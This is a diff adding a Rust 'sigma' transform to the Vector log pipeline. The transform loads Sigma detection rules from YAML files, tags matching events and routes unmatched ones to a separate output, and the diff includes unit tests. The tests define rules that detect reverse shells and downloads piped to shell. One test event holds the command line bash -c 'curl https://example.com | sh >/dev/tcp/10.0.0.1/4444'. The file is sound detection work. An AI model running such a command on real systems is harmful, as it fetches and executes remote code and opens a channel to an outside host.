@@ -0,0 +1,312 @@
+use std::{
+    collections::BTreeMap,
+    fs,
+    path::{Path, PathBuf},
+};
+
+use serde::Deserialize;
+use vector_config::configurable_component;
+use vector_core::transform::SyncTransform;
+
+use crate::{
+    config::{DataType, GenerateConfig, Input, Output, TransformConfig, TransformContext},
+    event::{Event, Value},
+    internal_events::SigmaRuleSkipped,
+    schema,
+    transforms::Transform,
+};
+
+mod condition;
+mod rule;
+
+use self::rule::{Rule, RuleDefinition};
+
+pub(crate) const UNMATCHED_OUTPUT: &str = "_unmatched";
+
+/// Configuration for the `sigma` transform.
+#[configurable_component(transform("sigma"))]
+#[configurable(metadata(status = "alpha"))]
+#[derive(Clone, Debug)]
+#[serde(deny_unknown_fields)]
+pub struct SigmaConfig {
+    /// The path of the directory holding the Sigma rules.
+    ///
+    /// All the files with a `.yml` or `.yaml` extension in the directory and its subdirectories
+    /// are loaded. Rules that can't be loaded, such as rules using aggregations or unsupported
+    /// modifiers, are skipped with a warning.
+    pub rules_path: PathBuf,
+
+    /// A table of Sigma field names to the paths of the event fields they refer to.
+    ///
+    /// Fields that aren't mapped are read from the path named like them.
+    #[serde(default)]
+    pub field_mappings: BTreeMap<String, String>,
+
+    /// The field to store the metadata of the rules matching an event in.
+    ///
+    /// The field is set to an array holding the `id`, `title`, `level`, and `tags` of each
+    /// matching rule.
+    #[serde(default = "default_match_field")]
+    pub match_field: String,
+}
+
+fn default_match_field() -> String {
+    "sigma".to_owned()
+}
+
+impl GenerateConfig for SigmaConfig {
+    fn generate_config() -> toml::Value {
+        toml::Value::try_from(Self {
+            rules_path: PathBuf::from("/etc/vector/sigma"),
+            field_mappings: BTreeMap::new(),
+            match_field: default_match_field(),
+        })
+        .unwrap()
+    }
+}
+
+#[async_trait::async_trait]
+impl TransformConfig for SigmaConfig {
+    async fn build(&self, _context: &TransformContext) -> crate::Result<Transform> {
+        Sigma::new(self).map(Transform::synchronous)
+    }
+
+    fn input(&self) -> Input {
+        Input::log()
+    }
+
+    fn outputs(&self, _: &schema::Definition) -> Vec<Output> {
+        vec![
+            Output::default(DataType::Log),
+            Output::default(DataType::Log).with_port(UNMATCHED_OUTPUT),
+        ]
+    }
+
+    fn enable_concurrency(&self) -> bool {
+        true
+    }
+}
+
+/// Loads the rules of all the YAML files under `path`.
+///
+/// Files can hold multiple rules, as separate YAML documents.
+fn load_rules(path: &Path, field_mappings: &BTreeMap<String, String>) -> crate::Result<Vec<Rule>> {
+    let mut files = Vec::new();
+    find_rule_files(path, &mut files)?;
+    files.sort();
+
+    let mut rules = Vec::new();
+    for file in files {
+        let contents = match fs::read_to_string(&file) {
+            Ok(contents) => contents,
+            Err(error) => {
+                emit!(SigmaRuleSkipped {
+                    path: &file,
+                    error: &error.to_string(),
+                });
+                continue;
+            }
+        };
+        for document in serde_yaml::Deserializer::from_str(&contents) {
+            match RuleDefinition::deserialize(document)
+                .map_err(|error| error.to_string())
+                .and_then(|definition| Rule::compile(definition, field_mappings))
+            {
+                Ok(rule) => rules.push(rule),
+                Err(error) => emit!(SigmaRuleSkipped {
+                    path: &file,
+                    error: &error,
+                }),
+            }
+        }
+    }
+    Ok(rules)
+}
+
+fn find_rule_files(directory: &Path, files: &mut Vec<PathBuf>) -> crate::Result<()> {
+    for entry in fs::read_dir(directory)
+        .map_err(|error| format!("Failed to read {:?}: {}", directory, error))?
+    {
+        let path = entry?.path();
+        if path.is_dir() {
+            find_rule_files(&path, files)?;
+        } else if path.extension().map_or(false, |extension| {
+            extension.eq_ignore_ascii_case("yml") || extension.eq_ignore_ascii_case("yaml")
+        }) {
+            files.push(path);
+        }
+    }
+    Ok(())
+}
+
+#[derive(Clone, Debug)]
+pub struct Sigma {
+    rules: Vec<Rule>,
+    match_field: String,
+}
+
+impl Sigma {
+    pub fn new(config: &SigmaConfig) -> crate::Result<Self> {
+        let rules = load_rules(&config.rules_path, &config.field_mappings)?;
+        if rules.is_empty() {
+            return Err(format!(
+                "No Sigma rule could be loaded from {:?}.",
+                config.rules_path
+            )
+            .into());
+        }
+        Ok(Self {
+            rules,
+            match_field: config.match_field.clone(),
+        })
+    }
+}
+
+impl SyncTransform for Sigma {
+    fn transform(
+        &mut self,
+        mut event: Event,
+        output: &mut vector_core::transform::TransformOutputsBuf,
+    ) {
+        let log = event.as_log();
+        let matches = self
+            .rules
+            .iter()
+            .filter(|rule| rule.matches(log))
+            .map(|rule| rule.metadata.clone())
+            .collect::<Vec<_>>();
+
+        if matches.is_empty() {
+            output.push_named(UNMATCHED_OUTPUT, event);
+        } else {
+            event
+                .as_mut_log()
+                .insert(self.match_field.as_str(), Value::Array(matches));
+            output.push(event);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use vector_core::transform::TransformOutputsBuf;
+
+    use super::*;
+
+    #[test]
+    fn generate_config() {
+        crate::test_util::test_generate_config::<SigmaConfig>();
+    }
+
+    fn write_rules(directory: &Path) {
+        fs::create_dir(directory.join("linux")).unwrap();
+        fs::write(
+            directory.join("linux/shell.yml"),
+            r#"
+title: Reverse shell
+id: 6f2a7a52-8d47-4c84-a3b0-3b0a3c6f7a10
+level: high
+tags:
+  - attack.execution
+detection:
+  selection:
+    CommandLine|contains: '/dev/tcp/'
+  condition: selection
+---
+title: Many failed logins
+detection:
+  selection:
+    outcome: failure
+  condition: selection | count() by user > 5
+"#,
+        )
+        .unwrap();
+        fs::write(
+            directory.join("curl.yaml"),
+            r#"
+title: Download piped to shell
+level: medium
+detection:
+  selection:
+    CommandLine|contains|all: ['curl', '| sh']
+  condition: selection
+"#,
+        )
+        .unwrap();
+        fs::write(directory.join("README.md"), "Not a rule.").unwrap();
+    }
+
+    fn transform(sigma: &mut Sigma, event: Event) -> (Vec<Event>, Vec<Event>) {
+        let mut outputs = TransformOutputsBuf::new_with_capacity(
+            vec![
+                Output::default(DataType::Log),
+                Output::default(DataType::Log).with_port(UNMATCHED_OUTPUT),
+            ],
+            1,
+        );
+        sigma.transform(event, &mut outputs);
+        (
+            outputs.drain().collect(),
+            outputs.drain_named(UNMATCHED_OUTPUT).collect(),
+        )
+    }
+
+    #[test]
+    fn tags_and_routes_matching_events() {
+        let directory = tempfile::tempdir().unwrap();
+        write_rules(directory.path());
+        let config = toml::from_str::<SigmaConfig>(&format!(
+            r#"
+            rules_path = {:?}
+            field_mappings.CommandLine = "process.command_line"
+            "#,
+            directory.path()
+        ))
+        .unwrap();
+        let mut sigma = Sigma::new(&config).unwrap();
+        // The rule using an aggregation is skipped.
+        assert_eq!(sigma.rules.len(), 2);
+
+        let event = Event::try_from(serde_json::json!({
+            "process": {"command_line": "bash -c 'curl https://example.com | sh >/dev/tcp/10.0.0.1/4444'"},
+        }))
+        .unwrap();
+        let (matched, unmatched) = transform(&mut sigma, event);
+        assert!(unmatched.is_empty());
+        let titles = matched[0]
+            .as_log()
+            .get("sigma")
+            .unwrap()
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|metadata| metadata.as_object().unwrap()["title"].to_string_lossy())
+            .collect::<Vec<_>>();
+        assert_eq!(titles, vec!["Download piped to shell", "Reverse shell"]);
+        assert_eq!(
+            matched[0].as_log().get("sigma[1].level"),
+            Some(&Value::from("high"))
+        );
+
+        let event = Event::try_from(serde_json::json!({
+            "process": {"command_line": "ls -la"},
+        }))
+        .unwrap();
+        let (matched, unmatched) = transform(&mut sigma, event);
+        assert!(matched.is_empty());
+        assert_eq!(unmatched.len(), 1);
+        assert!(unmatched[0].as_log().get("sigma").is_none());
+    }
+
+    #[test]
+    fn fails_without_rules() {
+        let directory = tempfile::tempdir().unwrap();
+        let config = SigmaConfig {
+            rules_path: directory.path().to_owned(),
+            field_mappings: BTreeMap::new(),
+            match_field: default_match_field(),
+        };
+
+        assert!(Sigma::new(&config).is_err());
+    }
+}